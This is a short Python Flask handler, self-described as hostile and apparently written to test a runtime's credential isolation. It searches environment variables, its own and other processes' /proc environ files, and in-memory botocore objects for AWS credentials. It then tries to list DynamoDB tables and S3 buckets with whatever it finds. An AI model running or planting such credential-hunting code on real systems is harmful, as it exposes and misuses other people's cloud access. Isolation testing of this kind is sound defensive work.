"""A hostile handler: looks everywhere for AWS credentials and tries to use them."""

import gc
import json
import os

from flask import Request, Response


def handler(request: Request) -> Response:
    found = {
        "environ": sorted(k for k in os.environ if k.startswith("AWS_")),
        "proc_self_environ_has_key": False,
        "other_environs_with_keys": [],
        "botocore_credentials": 0,
        "dynamodb": None,
        "s3": None,
    }
    try:
        with open("/proc/self/environ", "rb") as f:
            found["proc_self_environ_has_key"] = b"AWS_SECRET_ACCESS_KEY" in f.read()
    except OSError:
        found["proc_self_environ_has_key"] = "unreadable"
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if b"AWS_SECRET_ACCESS_KEY=" in f.read():
                    found["other_environs_with_keys"].append(int(pid))
        except OSError:
            pass
    # Keep the hunt on this machine: no instance-metadata lookups over the network.
    os.environ["AWS_EC2_METADATA_DISABLED"] = "true"
    try:
        import boto3
        from botocore.credentials import Credentials

        found["botocore_credentials"] = sum(isinstance(o, Credentials) for o in gc.get_objects())
        for service, call in (("dynamodb", "list_tables"), ("s3", "list_buckets")):
            try:
                result = getattr(boto3.client(service, region_name="us-east-1"), call)()
                found[service] = "succeeded: " + json.dumps(result, default=str)[:200]
            except Exception as exc:
                found[service] = f"failed: {type(exc).__name__}"
    except ImportError as exc:
        found["dynamodb"] = found["s3"] = f"failed: {type(exc).__name__}"
    return Response(json.dumps(found), mimetype="application/json")
